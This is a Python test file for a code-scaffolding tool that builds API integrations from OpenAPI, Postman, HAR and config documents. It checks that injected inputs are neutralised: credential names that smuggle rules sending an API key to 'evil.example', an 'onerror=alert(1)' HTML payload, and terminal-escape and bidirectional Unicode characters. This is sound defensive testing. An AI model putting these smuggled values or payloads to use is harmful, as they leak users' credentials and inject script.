"""Documents and answers that try to run code, or to have credentials sent where their own words do not say."""

import ast
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cookiecutter.exceptions import FailedHookException
from markdown_it import MarkdownIt

from autohive_scaffold.sources import reading
from tests.helpers.delivered import STRICT, Bake, Delivered

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])

EVIL = "evil.example"
GOOD = "https://api.good.test/v1"
# What would be notation where it stood between other text.
TO_A_TOKEN = f'api_key -> token POST https://{EVIL}/t form {{"a": api_key}}'
NAMES = [
    f"X-Key, {TO_A_TOKEN}",
    f"X-Key,{TO_A_TOKEN}",
    f"X-Key\n{TO_A_TOKEN}",
    f"X-Key\r\n{TO_A_TOKEN}",
    TO_A_TOKEN,
    f"api_key -> token POST https://{EVIL}/{{f({{api_key}})}}",
    f'X-Key "{EVIL} {{api_key}}"',
    f"X-Key, api_key -> header X-{EVIL}",
    f"X-Key, api_key -> query {EVIL}",
    f"X-Key, a -> basic {{api_key}}:{EVIL}",
    f"X-Key\u2028api_key -> header X-{EVIL}",
    f"X-Key\\, '{EVIL}",
    f"X-Key: {EVIL}",
    f'X-Key": credentials["{EVIL}',
    f"{{X-Key}}{EVIL}",
]


def document(name: str, where: str = "header", **more: Any) -> dict[str, Any]:
    """An OpenAPI document with an API key of this name."""
    scheme = {"type": "apiKey", "in": where, "name": name}
    return {
        "openapi": "3.0.0",
        "servers": [{"url": GOOD}],
        "paths": {"/items": {"get": {"operationId": "listItems", "security": [{"key": []}]}}},
        "components": {"securitySchemes": {"key": scheme}},
        **more,
    }


def swagger(name: str) -> dict[str, Any]:
    return {
        "swagger": "2.0",
        "host": "api.good.test",
        "basePath": "/v1",
        "paths": {"/items": {"get": {"operationId": "listItems", "security": [{"key": []}]}}},
        "securityDefinitions": {"key": {"type": "apiKey", "in": "header", "name": name}},
    }


def undeclared(name: str) -> dict[str, Any]:
    """A document without security schemes, with a parameter that is said to be a key."""
    parameter = {"name": name, "in": "header", "required": True, "description": "The API key of the account"}
    paths = {"/items": {"get": {"operationId": "listItems", "parameters": [parameter]}}}
    return {"openapi": "3.0.0", "servers": [{"url": GOOD}], "paths": paths}


def postman(name: str) -> dict[str, Any]:
    auth = {
        "type": "apikey",
        "apikey": [{"key": "key", "value": name}, {"key": "value", "value": "{{api_key}}"}],
    }
    return {
        "info": {"name": "x"},
        "item": [{"name": "List items", "request": {"url": f"{GOOD}/items", "auth": auth}}],
    }


def postman_variable(name: str) -> dict[str, Any]:
    values = [
        {"key": "username", "value": f"{{{{{name}}}}}"},
        {"key": "password", "value": f"{{{{pass {name}}}}}"},
    ]
    auth = {"type": "basic", "basic": values}
    return {
        "info": {"name": "x"},
        "item": [{"name": "List items", "request": {"url": f"{GOOD}/items", "auth": auth}}],
    }


def postman_kind(name: str) -> dict[str, Any]:
    auth = {"type": name, name: [{"key": "token", "value": name}]}
    return {
        "info": {"name": "x"},
        "item": [{"name": "List items", "request": {"url": f"{GOOD}/items", "auth": auth}}],
    }


def har(name: str) -> dict[str, Any]:
    headers = [
        {"name": name, "value": "Zx81kQ77LmPw90aB"},
        {"name": "Authorization", "value": f"{name} x={name}"},
    ]
    request = {"method": "GET", "url": f"{GOOD}/items", "headers": headers}
    answer = {"status": 200, "content": {"mimeType": "application/json", "text": "[]"}}
    return {"log": {"entries": [{"request": request, "response": answer}]}}


def config(name: str) -> dict[str, Any]:
    field = {"type": "string", "label": name, "help_text": name, "format": name}
    return {
        "name": "x",
        "auth": {
            "type": "custom",
            "fields": {"type": "object", "properties": {name: field, "api_key": field}},
        },
        "actions": {"list_items": {"description": "Lists", "input_schema": {}, "output_schema": {}}},
    }


SOURCES: dict[str, Callable[[str], dict[str, Any]]] = {
    "openapi": document,
    "openapi in the query": lambda name: document(name, "query"),
    "swagger": swagger,
    "undeclared": undeclared,
    "postman": postman,
    "a variable of postman": postman_variable,
    "a kind of postman": postman_kind,
    "har": har,
    "config": config,
}


REQUIRED = "is required, but not sent"
# Where such a name is that of the only key, what is said of it.
NOT_SENT = {
    **dict.fromkeys(["openapi", "openapi in the query", "swagger", "undeclared"], REQUIRED),
    "postman": "is not sent, as no credential can have that name or form",
}


@pytest.fixture
def source(tmp_path: Path) -> Callable[..., str]:
    """Write a document to a file, and give its path."""

    def write(content: dict[str, Any]) -> str:
        path = tmp_path / ("api.har" if "log" in content else "api.json")
        path.write_text(json.dumps(content), encoding="utf-8")
        return str(path)

    return write


@pytest.fixture
def said(bake_fresh: Bake, capfd: pytest.CaptureFixture[str]) -> Callable[..., tuple[Delivered | None, str]]:
    """Deliver, and give what was delivered, if anything, and what the command said."""

    def deliver(**answers: Any) -> tuple[Delivered | None, str]:
        try:
            delivered = bake_fresh(name="Good", **answers)
        except FailedHookException as error:
            return None, str(error)
        return delivered, capfd.readouterr().out

    return deliver


def code_of(delivered: Delivered) -> dict[str, str]:
    return {name: delivered.read(name) for name in delivered.files() if name.endswith(".py")}


def called_in_texts(source: str) -> set[str]:
    """The names of all functions that are called in an f-string."""
    texts = [node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.JoinedStr)]
    calls = [node.func for text in texts for node in ast.walk(text) if isinstance(node, ast.Call)]
    return {func.id if isinstance(func, ast.Name) else func.attr for func in calls}  # type: ignore[attr-defined]


@pytest.mark.parametrize("kind", SOURCES)
@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_the_name_of_a_credential_is_no_notation(said, source, kind: str, name: str):
    delivered, printed = said(actions=source(SOURCES[kind](name)))

    if delivered is None:
        assert len(printed.splitlines()) == 1
        return
    api = delivered.read("good.py")
    assert "access_token" not in api
    assert EVIL not in api.partition("@good.action")[0]
    assert 'options.pop("params"' not in api or kind == "openapi in the query"
    if kind in NOT_SENT:
        assert "is ready" not in printed
        assert NOT_SENT[kind] in printed


def test_a_base_url_of_the_author_s_keeps_the_key_there(said, source):
    delivered, _ = said(actions=source(document(NAMES[0])), base_url="https://mine.example")

    assert delivered is not None
    assert EVIL not in "".join(code_of(delivered).values())
    assert 'BASE_URL = "https://mine.example"' in delivered.read("good.py")


@pytest.mark.parametrize(
    ("url", "default"),
    [
        ("https://{host}/v1", "{metadata.api_base_url}"),
        ("https://{{name}}.good.test/v1", "api_key"),
        ("https://{host}/v1", "{api_key}.evil.example"),
    ],
)
def test_the_variable_of_a_server_is_no_credential(said, source, url: str, default: str):
    variables = {
        "host": {"default": default, "enum": [default]},
        "name": {"default": default, "enum": [default]},
    }
    delivered, _ = said(actions=source(document("X-Key", servers=[{"url": url, "variables": variables}])))

    assert delivered is not None
    assert "def base_url" not in delivered.read("good.py")


@pytest.mark.parametrize(
    "value", ["1, Other: x", "1,Other: x", "1\nOther: x", "1, Authorization: Bearer x", "1,"]
)
def test_the_value_of_a_recorded_header_adds_none(said, source, value: str):
    headers = [{"name": "X-Version", "value": value}, {"name": "X-Plain", "value": "plain"}]
    answer = {"status": 200, "content": {"mimeType": "application/json", "text": "[]"}}
    requests = [{"method": "GET", "url": f"{GOOD}/{name}", "headers": headers} for name in ("items", "users")]
    delivered, _ = said(
        actions=source({"log": {"entries": [{"request": one, "response": answer} for one in requests]}})
    )

    assert delivered is not None
    tests = delivered.read(f"tests/test_{delivered.module_name}_unit.py")
    headers = ast.literal_eval(tests.partition("\nHEADERS = ")[2].partition("\n\n")[0])
    assert {name for name in headers if name not in ("Accept", "X-Version")} == {"X-Plain", "Authorization"}
    assert headers["Authorization"] == "Bearer test-api_token"
    assert headers.get("X-Version", value) == value
    assert delivered.pytest("-q", *STRICT).returncode == 0


SCOPES = ["read\x1b[2J", "read\u202eetirw", "read, write:all", "a\nb", "a\u2028b", "a\u200fb", " a"]


@pytest.mark.parametrize("scope", SCOPES, ids=ascii)
@pytest.mark.parametrize("kind", ["openapi", "config"])
def test_a_scope_that_is_none_is_left_out_and_told(said, source, kind: str, scope: str):
    flow = {
        "authorizationUrl": "https://a.test",
        "tokenUrl": "https://a.test",
        "scopes": {scope: "x", "good": "y"},
    }
    scheme = {"type": "oauth2", "flows": {"authorizationCode": flow}}
    content = document("x", components={"securitySchemes": {"key": scheme}})
    content["paths"]["/items"]["get"]["security"] = [{"key": [scope, "good"]}]
    if kind == "config":
        content = {
            **config("x"),
            "auth": {"type": "platform", "provider": "github", "scopes": [scope, "good"]},
        }

    assert reading.read(source(content)).defaults["scopes"] == "good"
    delivered, printed = said(actions=source(content), provider="github")

    assert delivered is not None
    assert delivered.config["auth"]["scopes"] == ["good"]
    assert "is ready" not in printed
    assert " ".join(printed.split()).count("is left out, as it can't be one") >= 1
    assert "\x1b" not in printed
    assert "\u202e" not in printed


HTML = [
    "<img src=x onerror=alert(1)>",
    "\n\n<img src=x>\n\n",
    "`\n\n<img src=x>\n\n`",
    "|\n<img src=x>",
    "a\r\r<b>x</b>",
]


@pytest.mark.parametrize("text", HTML, ids=ascii)
def test_no_text_is_html_in_the_readme_or_the_pull_request(said, source, text: str):
    schema = {"type": "string", "enum": [text, "a"], "default": text, "title": text, "description": text}
    shaped = {"type": "string", "format": text, "pattern": text, "example": text}
    keyed = {
        "type": "object",
        "properties": {text: {**schema}, "a": {"type": "object", "properties": {text: schema}}},
    }
    body = {
        "content": {
            "application/json": {"schema": {"type": "object", "properties": {"b": keyed, text: schema}}}
        }
    }
    operation = {
        "summary": text,
        "description": text,
        "tags": [text],
        "parameters": [
            {"name": "q", "in": "query", "schema": schema, "description": text},
            {"name": "s", "in": "query", "schema": shaped},
            {"name": text, "in": "cookie", "required": True},
            {"name": text, "in": "query"},
        ],
        "requestBody": body,
        "responses": {"200": {"content": {"application/json": {"schema": keyed}}}},
        "security": [{"key": []}, {text: []}],
    }
    content = document(text, paths={"/items": {"post": operation}}, info={"title": text, "description": text})
    content["components"]["securitySchemes"]["key"]["description"] = f"You get it from {text}"
    asked = {
        "a": schema,
        "b": shaped,
        "c": {"type": "object", "properties": {text: schema}},
        "d": {"enum": [text]},
    }
    answered = {
        "type": "object",
        "properties": {"a": {"type": "object", "properties": {text: {"type": "string"}}}},
    }
    told = {
        "input_schema": {"type": "object", "properties": asked},
        "output_schema": answered,
        "description": text,
    }
    for each in (content, {**config(text), "actions": {"list_items": {**told, "display_name": text}}}):
        delivered, printed = said(actions=source(each), slug="good" if each is content else "good-2")

        if delivered is None:  # the notation has no such values
            assert "must be printable characters on one line" in printed
            continue
        for markdown in (delivered.read("README.md"), delivered.read("PULL_REQUEST.md")):
            tokens = [part for token in MARKDOWN.parse(markdown) for part in (token, *(token.children or []))]
            assert "html_block" not in [token.type for token in tokens]
            assert "html_inline" not in [token.type for token in tokens]


@pytest.mark.parametrize("mark", ["\u061c", "\u200e", "\u200f"], ids=ascii)
def test_marks_of_direction_are_unprintable(said, mark: str):
    for answers in ({"description": f"a{mark}b"}, {"actions": f"get_x(a: Annotated[str, 'a{mark}b'])"}):
        delivered, refusal = said(**answers)

        assert delivered is None
        assert mark not in refusal
